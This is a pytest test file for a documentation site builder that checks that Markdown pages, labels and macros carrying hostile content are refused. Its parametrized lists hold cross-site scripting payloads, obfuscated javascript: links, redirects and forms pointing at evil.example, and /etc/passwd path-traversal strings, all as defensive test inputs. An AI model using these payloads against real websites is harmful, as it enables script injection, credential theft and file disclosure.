from pathlib import Path

import pytest
from selectolax.lexbor import LexborHTMLParser

from canllaw.build import Guide, prepare
from canllaw.checks import active_content, made_html
from canllaw.hosts.mkdocs import build_site
from canllaw.problems import CanllawError, Place
from conftest import DAY, Edit, English, in_english

EN_HOME = "docs/en/index.md"

# What somebody may try on a page: each is refused with one of the ids beside it.
HOSTILE = [
    ("<script>alert(1)</script>", "C650"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "C650"),
    ("<img src=x onerror=alert(1)>", "C650"),
    ("<svg/onload=alert(1)>", "C650"),
    ("<iframe srcdoc='<script>1</script>'></iframe>", "C650"),
    ('<div class="tasks" onclick="alert(1)" markdown>', "C650"),
    ('<div style="position:fixed;inset:0" markdown>', "C650"),
    ('<div class="md-overlay" markdown>', "C650"),
    ('<div\nonmouseover="alert(1)">', "C650"),
    ("<style>main{display:none}</style>", "C650"),
    ("<base href='https://evil.example/'>", "C650"),
    ('<meta http-equiv="refresh" content="0;url=//evil.example">', "C650"),
    ('<form action="https://evil.example"><input name="pin"></form>', "C650"),
    ("<!-- hidden from readers -->", "C650"),
    ("<?php echo 1 ?>", "C650"),
    ("\\<script>alert(1)</script>", "C650"),
    ("`a\n<script>alert(1)</script>`", "C650"),
    ('```<div class="x" markdown>\n`<script>`', "C650"),  # found by tests/test_hostile.py
    ("``` {onclick=alert(1)}\nx\n```", "C650"),
    ("```\n<script>alert(1)</script>\n``", "C650"),
    ("## `<script>alert(1)</script>` {#x}", "C650"),
    ("*x*{: onclick=alert(1) }", "C650"),
    ("*x*{: style='position:fixed' }", "C650"),
    ("*x*{ hidden }", "C650"),
    ("*x*{: .md-overlay }", "C650"),
    ("[x](javascript:alert(1))", "C510"),
    ("[x](JaVaScRiPt:alert(1))", "C510"),
    ("[x](java&#115;cript:alert(1))", "C510"),
    ("[x](javascript&colon;alert(1))", "C510"),
    ("[x](<java\tscript:alert(1)>)", "C510"),
    ("[x](data:text/html,<script>alert(1)</script>)", "C510"),
    ("[x](vbscript:msgbox)", "C510"),
    ("[x][y]\n\n[y]: javascript:alert(1)", "C510"),
    ("<javascript:alert(1)>", "C510"),
    ("![x](https://evil.example/pixel.png)", "C510"),
    ("[x](//evil.example/)", "C510"),
    ("[x](/\\evil.example/)", "C510"),
    ("[x](https://law.example.evil.example/)", "C510"),
    ("[x](https://law.example@evil.example/)", "C510"),
    ("[x](https://law.example:8443/)", "C510"),
    ("[x](http://law.example/)", "C510"),
    ("[x](mailto:a@evil.example)", "C510"),
    ("<a@evil.example>", "C510"),
    ("](<a@evil.example>", "C510"),  # found by tests/test_hostile.py
    ("[x](tel:0300)", "C510"),
    ("[x](../../../content/facts.yml)", "C107"),
    ("[x](/etc/passwd)", "C107"),
    ('--8<-- "/etc/passwd"\n\n<x>', "C650"),
]


@pytest.mark.parametrize(("written", "problem"), HOSTILE)
def test_hostile_page(tiny: Path, edit: Edit, written: str, problem: str) -> None:
    """Whatever could run, lead away or hide something is refused at the line where it stands."""
    edit(EN_HOME, "# Home", f"# Home\n\n{written}")
    found = [one for one in prepare(tiny, DAY).errors if one.id == problem]
    assert found
    assert {one.place.path for one in found} == {EN_HOME}
    assert all(one.place.line >= 7 for one in found)


def test_C650_html_on_a_page(tiny: Path, edit: Edit) -> None:
    """HTML is named with its line and column, and what may stand instead."""
    edit(EN_HOME, "# Home", '# Home\n\nYou <b onclick="x">must</b> act.')
    found = [one for one in in_english(prepare(tiny, DAY).errors) if one.id == "C650"]
    assert found[0] == English(
        "C650",
        Place(EN_HOME, 8, 5),
        "HTML stands here: '<b onclick=\"x\"'. Pages are Markdown, with nothing that could run in "
        "a browser.",
        'Write it in Markdown. Only <div class="…" markdown> and <span lang="…"> may stand; for '
        "the sign < type &lt;.",
    )


def test_what_may_stand(tiny: Path, edit: Edit) -> None:
    """The few tags pages need, ids and classes, code in its marks and listed sites are fine."""
    fine = (
        '<div class="tasks two" markdown>\n\n- [Ask](help/ask.md)\n\n</div>\n\n'
        'A <span lang="cy">Canllaw</span> and `b` and 3 < 4, see [the law](https://law.example/a)'
        " and <https://council.example/page>.\n{: .note #here }\n\n```\n<b>{% raw\n```\n"
    ).replace("{% raw", "x")
    edit(EN_HOME, "# Home", f"# Home\n\n{fine}")
    found = {one.id for one in prepare(tiny, DAY).errors}
    assert not found & {"C107", "C510", "C650"}


def test_code_may_show_tags(tiny: Path, edit: Edit) -> None:
    """On a page without HTML of its own, code in its marks may show a tag."""
    edit(EN_HOME, "# Home", "# Home\n\nType `<b>` and `{x=1}` once.")
    assert "C650" not in {one.id for one in prepare(tiny, DAY).errors}


def test_C650_html_in_labels_and_descriptions(tiny: Path, edit: Edit) -> None:
    """A label or a description that could close a tag of the theme is refused."""
    edit("content/interface.yml", 'en: "Search"}', 'en: "<script>"}')
    edit(EN_HOME, "description: ", "description: '\"><script>' #")
    found = [one.place.path for one in prepare(tiny, DAY).errors if one.id == "C650"]
    assert found == ["content/interface.yml", EN_HOME]


def test_C510_site_that_is_not_listed(tiny: Path, edit: Edit) -> None:
    """An address in a fact must be on the list, at its line; the nearest one is offered."""
    edit("content/facts.yml", "https://council.example/page", "https://councll.example/page")
    (found,) = in_english(one for one in prepare(tiny, DAY).errors if one.id == "C510")
    assert found == English(
        "C510",
        Place("content/facts.yml", 18, 17),
        "'councll.example' is not on the list of sites that links may lead to.",
        "Did you mean 'council.example'?",
    )


@pytest.mark.parametrize(
    "html",
    [
        "<script>1</script>",
        "<p onclick='x'>x</p>",
        "<p style='position:fixed'>x</p>",
        "<a href='javascript:x'>x</a>",
        "<a href='https://evil.example/'>x</a>",
        "<a href='java\nscript:x'>x</a>",
        "<form></form>",
        "<svg><script>1</script></svg>",
        "<math><mi xlink:href='javascript:x'></mi></math>",
        "<img src='https://evil.example/x'>",
        "<h2 data-md-component='x'>x</h2>",
    ],
)
def test_C651_what_markdown_cannot_make(guide: Guide, html: str) -> None:
    """Even where the text of a page got past, what came out of Markdown is looked at again."""
    found = in_english(made_html(html, EN_HOME, guide.content.rules))
    assert found
    assert {one.id for one in found} == {"C651"}
    fine = '<h2 id="a">x</h2><table><tr><td style="text-align: right;">1</td></tr></table>'
    fine += '<a class="x" href="../b/" title="t">x</a><a href="https://law.example/a">x</a>'
    assert list(made_html(fine, EN_HOME, guide.content.rules)) == []


@pytest.mark.parametrize(
    ("html", "shown"),
    [
        ("<iframe></iframe>", "<iframe>"),
        ("<a href=' vbscript:x'>x</a>", '<a href=" vbscript:x">'),
        ("<a href='data:text/html,x'>x</a>", '<a href="data:text/html,x">'),
        ("<button formaction='javascript:x'>x</button>", '<button formaction="javascript:x">'),
        ("<object></object>", "<object>"),
    ],
)
def test_C651_what_macros_may_not_make(html: str, shown: str) -> None:
    """In the finished article nothing runs, whoever made it."""
    tree = LexborHTMLParser(f"<main><article>{html}</article></main>")
    assert in_english(active_content(tree, EN_HOME)) == (
        English(
            "C651",
            Place(EN_HOME),
            f"{shown} is in the finished page, and could run in the browser.",
            "Take it out of the page, or out of the macro that the page calls.",
        ),
    )


def test_macro_with_a_script_is_not_published(tiny: Path, edit: Edit) -> None:
    """A macro that writes a handler is stopped before anything is published."""
    edit("macros/term.md.jinja", '<p class="term">', '<p class="term" onclick="x">')
    guide = prepare(tiny, DAY)
    assert guide.errors == ()
    with pytest.raises(CanllawError):
        build_site(tiny, tiny / "site", guide)
